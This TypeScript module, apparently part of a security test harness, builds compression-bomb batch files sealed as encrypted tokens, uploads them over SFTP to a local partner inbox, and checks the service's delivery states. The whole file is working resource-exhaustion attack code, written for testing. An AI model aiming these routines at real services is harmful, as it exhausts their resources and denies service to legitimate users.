/** Small things that become large: a batch that opens to 15 MiB, and a file of one such line many times. */
import {
  constants,
  createCipheriv,
  createPublicKey,
  type KeyObject,
  publicEncrypt,
  randomBytes,
  randomUUID,
} from "node:crypto";
import { createWriteStream } from "node:fs";
import { mkdtemp, readFile, stat } from "node:fs/promises";
import { connect } from "node:net";
import path from "node:path";
import { setTimeout as wait } from "node:timers/promises";
import { pipeline } from "node:stream/promises";
import { Readable } from "node:stream";
import { createGzip, deflateRawSync } from "node:zlib";
import ssh2 from "ssh2";
import type { Partner } from "../../outside/partner.ts";
import type { World } from "../attack.ts";

const records = 500;
/** With the rest of a record below the 64 KiB that one may have, and with the others below the 18 MiB of a batch. */
const paddingLength = 29_000;

/** A JSON array of 15 MiB, most of it in a key that nobody reads; sealed it is short enough for gzip to see it again. */
export function largestContent(uid: string): string {
  const record = (n: number) => ({
    uid,
    type: "TX",
    account: { id: "bomb", name: "Bomb", iban: "DK5000400440116243" },
    tx: {
      txid: `bomb-${n}`,
      txTime: "2026-10-01T10:00:00Z",
      type: "CARD",
      amount: -1,
      currency: "DKK",
      description: "a".repeat(2000),
      merchant: { name: "a".repeat(500) },
    },
    padding: "a".repeat(paddingLength),
  });
  return JSON.stringify(Array.from({ length: records }, (_, n) => record(n)));
}

/** A user of the partner that the attacker may name. */
export async function ownUser(partner: Partner): Promise<string> {
  const user = "mallory";
  await partner.call("POST", "/users", { body: { bankUserId: user, brand: partner.brand.id, locale: "en-GB" } });
  return user;
}

export async function largestToken(partner: Partner, uid: string): Promise<string> {
  const { kid, ...key } = await partner.batchKey();
  return seal(createPublicKey({ key, format: "jwk" }), kid, compress(largestContent(uid)));
}

export function compress(content: string): Buffer {
  return deflateRawSync(content, { level: 9, memLevel: 9 });
}

export function seal(publicKey: KeyObject, kid: string, compressed: Buffer): string {
  const header = Buffer.from(JSON.stringify({ alg: "RSA-OAEP", enc: "A256GCM", zip: "DEF", kid })).toString(
    "base64url",
  );
  const [contentKey, iv] = [randomBytes(32), randomBytes(12)];
  const wrapped = publicEncrypt({ key: publicKey, padding: constants.RSA_PKCS1_OAEP_PADDING }, contentKey);
  const cipher = createCipheriv("aes-256-gcm", contentKey, iv).setAAD(Buffer.from(header));
  const ciphertext = Buffer.concat([cipher.update(compressed), cipher.final()]);
  return [header, ...[wrapped, iv, ciphertext, cipher.getAuthTag()].map((one) => one.toString("base64url"))].join(".");
}

const files = 4;
const linesOfFile = 17_000;

/** Four files of a partner with good keys, and what loading them takes. */
export async function deliverBombs(world: World): Promise<() => Promise<string>> {
  const partner = await world.partner("mallory");
  const token = await largestToken(partner, await ownUser(partner));
  const folder = await mkdtemp(path.join(partner.folder, "bombs-"));
  const paths = await Promise.all(
    Array.from({ length: files }, async (_, n) => {
      const line = `${JSON.stringify({ reqId: randomUUID(), txs: token })}\n`;
      const to = path.join(folder, `${n}.jsonl.gz`);
      const text = Readable.from(repeat(line, linesOfFile), { objectMode: false });
      await pipeline(text, createGzip({ level: 9 }), createWriteStream(to));
      return to;
    }),
  );
  await uploadAll(partner, world.attacker, paths);
  const { size } = await stat(paths[0] ?? "");
  // Loading has begun when it can be felt.
  await wait(2000);
  return async () => {
    const states = await statesOf(world, partner);
    return `${files} files of ${(size / 1e6).toFixed(1)} MB: ${states}`;
  };
}

function* repeat(line: string, times: number): Generator<Buffer> {
  const some = Buffer.from(line.repeat(100));
  for (let n = 0; n < times; n += 100) yield some;
}

async function statesOf(world: World, partner: Partner): Promise<string> {
  const told = JSON.parse(await world.service.tideline("status", "--partner", partner.id, "--json")) as {
    deliveries?: { state: string }[];
  };
  const counts = Object.entries(Object.groupBy(told.deliveries ?? [], ({ state }) => state));
  return counts.map(([state, all]) => `${all?.length} ${state}`).join(", ") || "nothing is told of them";
}

export async function uploadAll(partner: Partner, from: string, paths: readonly string[]): Promise<void> {
  const privateKey = await readFile(path.join(partner.folder, "sftp_key"));
  const client = new ssh2.Client();
  const socket = connect({ host: "127.0.0.1", port: partner.sftpPort, localAddress: from });
  await new Promise<void>((resolve, reject) => {
    client.once("error", reject);
    client.once("ready", resolve);
    client.connect({ sock: socket, username: partner.id, privateKey });
  });
  await new Promise<void>((resolve, reject) =>
    client.sftp((error, sftp) => {
      if (error) return reject(error);
      const put = (one: string) =>
        new Promise<void>((done, failed) =>
          sftp.fastPut(one, `inbox/${path.basename(one)}`, (wrong) => (wrong ? failed(wrong) : done())),
        );
      Promise.all(paths.map(put)).then(() => resolve(), reject);
    }),
  );
  client.end();
}
